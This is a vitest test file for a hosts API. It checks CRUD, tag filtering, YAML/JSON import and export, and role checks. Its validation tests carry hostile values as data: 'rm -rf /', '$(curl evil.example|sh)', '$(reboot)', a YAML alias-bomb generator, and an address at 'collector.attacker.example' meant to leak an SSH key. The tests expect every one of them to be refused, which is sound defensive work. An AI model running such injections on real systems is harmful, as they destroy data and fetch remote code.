import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { DIALECTS } from '../support/harness.js';
import { startApiServer, type ApiServer } from './api-server.js';

const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nnever-shown-7c1d\n-----END OPENSSH PRIVATE KEY-----';
const yaml = (text: string) => ({ raw: text, headers: { 'content-type': 'application/yaml' } });

describe.each(DIALECTS)('hosts API ($name)', (dialect) => {
  let s: ApiServer;
  beforeAll(async () => {
    s = await startApiServer(dialect);
    await s.call('POST', '/automation/credentials', { body: { name: 'fleet-key', type: 'ssh_key', data: { host: '10.0.0.1', username: 'ops', private_key: KEY }, allowed_hosts: ['*.prod.example.com', '10.0.0.1'] } });
    await s.call('POST', '/automation/credentials', { body: { name: 'chat', type: 'http_bearer', data: { token: 'tok-never-shown-9f' }, allowed_hosts: ['chat.example.com'] } });
  });
  afterAll(async () => { await s.close(); });

  it('creates, lists by tag, shows, replaces and deletes hosts, by id or name', async () => {
    const created = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'web-1', address: 'n11.prod.example.com', tags: ['web', 'prod'], ssh_credential_id: 'fleet-key', attributes: { os: 'debian' } } });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ name: 'web-1', address: 'n11.prod.example.com', port: 22, tags: ['web', 'prod'], ssh_credential_id: 'fleet-key', attributes: { os: 'debian' } });
    expect(created.headers.get('location')).toBe(`/automation/hosts/${created.body.id}`);
    await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'db-1', address: 'n21.prod.example.com', port: 2222, tags: ['db', 'prod'], ssh_credential_id: 'fleet-key' } });

    const names = async (q: string) => (await s.call('GET', `/automation/hosts${q}`, { as: 'viewer' })).body.items.map((h: { name: string }) => h.name);
    expect(await names('')).toEqual(['db-1', 'web-1']);
    expect(await names('?tag=prod')).toEqual(['db-1', 'web-1']);
    expect(await names('?tag=prod&tag=web')).toEqual(['web-1']);
    expect(await names('?tag=nothing')).toEqual([]);
    expect((await s.call('GET', '/automation/hosts/web-1', { as: 'viewer' })).body.id).toBe(created.body.id);

    const replaced = await s.call('PUT', '/automation/hosts/web-1', { as: 'operator', body: { name: 'web-01', address: 'n11.prod.example.com', tags: ['web'], ssh_credential_id: 'fleet-key' } });
    expect(replaced.status).toBe(200);
    expect(replaced.body).toMatchObject({ id: created.body.id, name: 'web-01', tags: ['web'], attributes: {} });
    expect((await s.call('DELETE', '/automation/hosts/web-01', { as: 'operator' })).status).toBe(204);
    expect((await s.call('GET', `/automation/hosts/${created.body.id}`)).status).toBe(404);
  });

  it('refuses bad fields with 400 naming each, a taken name with 409, and a credential that is missing or not ssh_key', async () => {
    const bad = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'bad name; rm -rf /', address: '$(curl evil.example|sh)', port: 70000, tags: ['$(reboot)'], ssh_credential_id: 'fleet-key', colour: 'red' } });
    expect(bad.status).toBe(400);
    expect(bad.headers.get('content-type')).toContain('application/problem+json');
    expect(bad.body.errors.map((e: { path: string }) => e.path)).toEqual(expect.arrayContaining(['/name', '/address', '/port', '/tags/0']));
    const taken = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'db-1', address: 'n09.prod.example.com', ssh_credential_id: 'fleet-key' } });
    expect(taken.status).toBe(409);
    const wrongType = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'app-1', address: 'n31.prod.example.com', ssh_credential_id: 'chat' } });
    expect(wrongType.status).toBe(400);
    expect(wrongType.body.errors).toEqual([expect.objectContaining({ path: '/ssh_credential_id', message: expect.stringContaining('http_bearer') })]);
    const missing = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'app-1', address: 'n31.prod.example.com', ssh_credential_id: 'nope' } });
    expect(missing.body.errors).toEqual([expect.objectContaining({ path: '/ssh_credential_id' })]);
    // The key would go to a machine it is not bound to: refused now, not at the first run.
    const elsewhere = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'app-1', address: 'collector.attacker.example', ssh_credential_id: 'fleet-key' } });
    expect(elsewhere.status).toBe(400);
    expect(elsewhere.body.errors).toEqual([expect.objectContaining({ path: '/ssh_credential_id', message: expect.stringContaining('may not be sent to collector.attacker.example') })]);
  });

  it('exports YAML that imports back unchanged, and imports JSON; replace mode deletes hosts not named', async () => {
    const exported = await s.call('GET', '/automation/hosts/export', { as: 'viewer' });
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toContain('application/yaml');
    expect(parse(exported.text)).toEqual({ hosts: [{ name: 'db-1', address: 'n21.prod.example.com', port: 2222, tags: ['db', 'prod'], ssh_credential_id: 'fleet-key', attributes: {} }] });

    const doc = `hosts:\n  - name: web-1\n    address: n11.prod.example.com\n    tags: [web, prod]\n    ssh_credential_id: fleet-key\n  - name: web-2\n    address: n12.prod.example.com\n    tags: [web, prod]\n    ssh_credential_id: fleet-key\n    attributes: {rack: r2}\n`;
    const merged = await s.call('POST', '/automation/hosts/import', { as: 'operator', ...yaml(doc) });
    expect(merged.status).toBe(200);
    expect(merged.body).toEqual({ created: 2, updated: 0, deleted: 0 });
    const again = await s.call('POST', '/automation/hosts/import', { as: 'operator', ...yaml(exported.text) });
    expect(again.body).toEqual({ created: 0, updated: 1, deleted: 0 });

    const replaced = await s.call('POST', '/automation/hosts/import?mode=replace', { as: 'operator', body: { hosts: [{ name: 'web-2', address: 'n12.prod.example.com', ssh_credential_id: 'fleet-key' }] } });
    expect(replaced.body).toEqual({ created: 0, updated: 1, deleted: 2 });
    const json = await s.call('GET', '/automation/hosts/export?format=json', { as: 'viewer' });
    expect(json.body).toEqual({ hosts: [{ name: 'web-2', address: 'n12.prod.example.com', port: 22, tags: [], ssh_credential_id: 'fleet-key', attributes: {} }] });
  });

  it('refuses hostile imports whole, naming the field: unknown fields, wrong credential type, duplicates, alias bombs, huge files', async () => {
    const before = (await s.call('GET', '/automation/hosts')).body.items;
    const unknown = await s.call('POST', '/automation/hosts/import', { as: 'operator', ...yaml('hosts:\n  - name: x-1\n    address: n40.prod.example.com\n    ssh_credential_id: fleet-key\n    command: "rm -rf /"\n') });
    expect(unknown.status).toBe(400);
    expect(unknown.body.errors).toEqual([expect.objectContaining({ path: '/hosts/0/command', message: expect.stringContaining('unknown property') })]);

    const wrongCred = await s.call('POST', '/automation/hosts/import', { as: 'operator', body: { hosts: [{ name: 'x-1', address: 'n40.prod.example.com', ssh_credential_id: 'fleet-key' }, { name: 'x-2', address: 'n41.prod.example.com', ssh_credential_id: 'chat' }] } });
    expect(wrongCred.status).toBe(400);
    expect(wrongCred.body.errors).toEqual([expect.objectContaining({ path: '/hosts/1/ssh_credential_id' })]);

    const dupes = await s.call('POST', '/automation/hosts/import', { as: 'operator', body: { hosts: [{ name: 'x-1', address: 'n40.prod.example.com', ssh_credential_id: 'fleet-key' }, { name: 'x-1', address: 'n41.prod.example.com', ssh_credential_id: 'fleet-key' }] } });
    expect(dupes.body.errors).toEqual([expect.objectContaining({ path: '/hosts/1/name' })]);

    const lol = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 9; i++) lol.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
    lol.push('hosts: *i');
    const bomb = await s.call('POST', '/automation/hosts/import', { as: 'operator', ...yaml(lol.join('\n')) });
    expect(bomb.status).toBe(400);
    expect(bomb.body.detail).toMatch(/alias/i);

    const tooMany = { hosts: Array.from({ length: 5001 }, (_, i) => ({ name: `h-${i}`, address: 'n50.prod.example.com', ssh_credential_id: 'fleet-key' })) };
    const many = await s.call('POST', '/automation/hosts/import', { as: 'operator', body: tooMany });
    expect(many.status).toBe(400);
    expect(many.body.errors).toEqual([expect.objectContaining({ path: '/hosts' })]);
    const huge = await s.call('POST', '/automation/hosts/import', { as: 'operator', ...yaml(`hosts: []\n#${'x'.repeat(s.config.bodyLimitBytes)}`) });
    expect(huge.status).toBe(413);
    const notYaml = await s.call('POST', '/automation/hosts/import', { as: 'operator', ...yaml('hosts: [unclosed') });
    expect(notYaml.status).toBe(400);

    expect((await s.call('GET', '/automation/hosts')).body.items).toEqual(before);
  });

  it('lets viewers read but only operators and above write; anonymous callers get 401', async () => {
    const body = { name: 'v-1', address: 'n60.prod.example.com', ssh_credential_id: 'fleet-key' };
    expect((await s.call('GET', '/automation/hosts', { as: 'viewer' })).status).toBe(200);
    expect((await s.call('POST', '/automation/hosts', { as: 'viewer', body })).status).toBe(403);
    expect((await s.call('PUT', '/automation/hosts/web-2', { as: 'viewer', body })).status).toBe(403);
    expect((await s.call('DELETE', '/automation/hosts/web-2', { as: 'viewer' })).status).toBe(403);
    expect((await s.call('POST', '/automation/hosts/import', { as: 'viewer', body: { hosts: [body] } })).status).toBe(403);
    for (const [method, path] of [['GET', '/automation/hosts'], ['GET', '/automation/hosts/export'], ['POST', '/automation/hosts'], ['DELETE', '/automation/hosts/web-2']] as const) {
      expect((await s.call(method, path, { as: null, ...(method === 'POST' ? { body } : {}) })).status).toBe(401);
    }
    expect((await s.call('GET', '/automation/hosts/web-2')).status).toBe(200);
  });
});
